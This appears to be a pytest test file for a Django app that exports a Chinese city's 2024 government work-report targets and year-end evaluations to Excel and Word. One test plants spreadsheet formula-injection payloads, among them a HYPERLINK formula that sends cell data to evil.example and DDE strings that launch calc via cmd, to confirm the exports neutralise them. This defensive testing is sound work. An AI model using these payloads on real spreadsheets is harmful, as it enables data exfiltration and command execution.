"""The breakdown table and the year-end evaluation, checked by reading the files back."""

from __future__ import annotations

import io
from pathlib import Path

import docx
import pytest
from django.core.management import call_command
from docx.oxml.ns import qn
from openpyxl import load_workbook

from luoshi.plans.models import Plan

pytestmark = pytest.mark.django_db


@pytest.fixture
def plan(tmp_path: Path) -> Plan:
    call_command("demo", "--seed", str(tmp_path / "absent.txt"), stdout=io.StringIO())
    return Plan.objects.get(slug="jinhua-2024")


def test_it_exports_the_breakdown_table_as_a_workbook_ready_to_print(plan: Plan, tmp_path: Path) -> None:
    path = tmp_path / "分解表.xlsx"
    call_command("export", "breakdown", "--plan", plan.slug, "-o", str(path), stdout=io.StringIO())
    sheet = load_workbook(path)["分解表"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "金华市2024年政府工作报告重点任务分解表"
    assert rows[1] == ("序号", "工作任务", "量化目标", "牵头单位", "责任单位", "完成时限")
    assert rows[2][:4] == ("1", "主要预期目标：地区生产总值", "地区生产总值增长6%左右", "金华市发展和改革委员会")
    investment = next(r for r in rows if r[1] and "提升投资效益" in r[1])
    assert investment[1] == "（一）全力增强经济发展动能,让稳进向好态势更加强劲\n提升投资效益"
    assert "固定资产投资达到2700亿元；固定资产投资增长10%以上" in investment[2]
    assert investment[3] == "金华市发展和改革委员会" and investment[5] == "2024年12月底"
    assert sheet.freeze_panes == "A3"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet["C3"].alignment.wrap_text


def test_it_exports_the_breakdown_table_as_a_word_table_with_chinese_fonts(plan: Plan, tmp_path: Path) -> None:
    path = tmp_path / "分解表.docx"
    call_command("export", "breakdown", "--plan", plan.slug, "--format", "docx", "-o", str(path),
                 stdout=io.StringIO())
    document = docx.Document(str(path))
    assert document.paragraphs[0].text == "金华市2024年政府工作报告重点任务分解表"
    [table] = document.tables
    assert [c.text for c in table.rows[0].cells] == ["序号", "工作任务", "量化目标", "牵头单位", "责任单位", "完成时限"]
    assert len(table.rows) == 1 + 7 + 28  # the header, 7 main targets, 28 tasks that have targets
    assert document.styles["Normal"].element.rPr.rFonts.get(qn("w:eastAsia")) == "宋体"
    assert document.sections[0].page_width > document.sections[0].page_height  # landscape


def test_it_judges_the_year_with_margins_and_sources(plan: Plan, tmp_path: Path) -> None:
    out = io.StringIO()
    call_command("evaluate", "--plan", plan.slug, "--year", "2024", stdout=out)
    text = out.getvalue()
    # the demo's outcomes: read from the 2025 report and confirmed, or published statistics
    assert text.startswith("金华市2024年 131个目标：无结果83个，已完成34个，仅有相关结果7个，未完成4个，部分完成3个")
    assert "1.1.3    未完成  固定资产投资增长10%以上  实际 5.3%  差额 -4.7个百分点" in text
    path = tmp_path / "评定.xlsx"
    call_command("evaluate", "--plan", plan.slug, "--format", "xlsx", "-o", str(path), stdout=io.StringIO())
    sheet = load_workbook(path)["年终评定"]
    exports = next(r for r in sheet.iter_rows() if r[0].value == "1.3.3")
    assert [c.value for c in exports[4:7]] == ["已完成", 7719.2, 719.2]  # numbers, that sum and sort
    assert exports[5].number_format == '#,##0.0"亿元"'
    assert exports[6].number_format.startswith('+#,##0.0"亿元";-')
    assert exports[7].value == "金华市2025年政府工作报告「其中外贸出口7719.2亿元」"
    income = next(r for r in sheet.iter_rows() if r[0].value == "0.0.2")  # not in the report: statistics
    assert income[4].value == "未完成" and income[7].value.startswith("https://")
    investment = next(r for r in sheet.iter_rows() if r[0].value == "1.1.3")
    assert (investment[5].value, investment[5].number_format) == (pytest.approx(0.053), "#,##0.0%")


def test_it_names_a_bad_period_for_the_bulletin(plan: Plan) -> None:
    from django.core.management import CommandError

    with pytest.raises(CommandError, match="--period 'June' is not a period"):
        call_command("export", "bulletin", "--plan", plan.slug, "--period", "June")


def test_it_writes_what_would_be_a_formula_as_text_in_every_workbook(plan: Plan, tmp_path: Path) -> None:
    """The attack (issue 12): a liaison's 来源 is =HYPERLINK(…); a target's words and a unit's name
    start with = + - @. Every .xlsx the office sends must show them as text, never run them."""
    from luoshi.progress.models import Observation
    from luoshi.reports.exports import breakdown_file, bulletin_files, evaluation_file
    from luoshi.units.models import Unit

    attack = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    target = plan.targets.get(code="1.3.3")
    Observation.objects.filter(target=target).update(source=attack)
    plan.targets.filter(code="1.1.4").update(indicator_text=attack)  # the demo now judges 1.3.3 on an outcome
    plan.targets.filter(code="1.1.2").update(indicator_text="+1+cmd|' /C calc'!A0")
    Unit.objects.filter(name="金华市商务局").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    Unit.objects.filter(name="金华市统计局").update(name="-2+3")
    workbooks = [breakdown_file(plan, "xlsx")[0], evaluation_file(plan, 2024)[0],
                 *[content for _, content in bulletin_files(plan, "2024-06", ["xlsx"])]]
    path = tmp_path / "template.xlsx"
    from luoshi.progress.sheets import template

    template(plan, "2024-06").save(path)
    workbooks.append(path.read_bytes())
    seen = set()
    for content in workbooks:
        book = load_workbook(io.BytesIO(content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} would become a formula when edited"
                        seen.add(cell.value[:1])
    assert seen == {"=", "+", "-", "@"}  # each attack did reach a workbook, as text
    breakdown = load_workbook(io.BytesIO(workbooks[0]))
    assert any(attack in str(c.value) for sheet in breakdown.worksheets for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize(("x", "most", "said"), [
    (1234567.0, 2, "1,234,567"),  # was 1.23457e+06 in the workflow's messages ({:g})
    (719.1999999999998, 2, "719.2"), (1356.03, 2, "1,356.03"), (5.0, 2, "5"), (1.0001, 2, "1"),
    (-0.5, 2, "-0.5"), (1e15, 2, "1,000,000,000,000,000"), (None, 2, "—"), (2.345, 1, "2.3"),
])
def test_it_writes_a_number_once_the_same_way_for_pages_files_and_reasons(x: float | None, most: int,
                                                                           said: str) -> None:
    from luoshi.reports.files import Number
    from luoshi.templatetags.luoshi import figure
    from luoshi.tracking.figures import say_number

    assert say_number(x, most) == said
    if x is not None and most == 2:
        assert figure(x) == said == str(Number.of(x))  # the page's filter, the exports' and bulletins' cells
    assert "e+" not in say_number(1.5e14) and say_number(3.0, signed=True) == "+3"
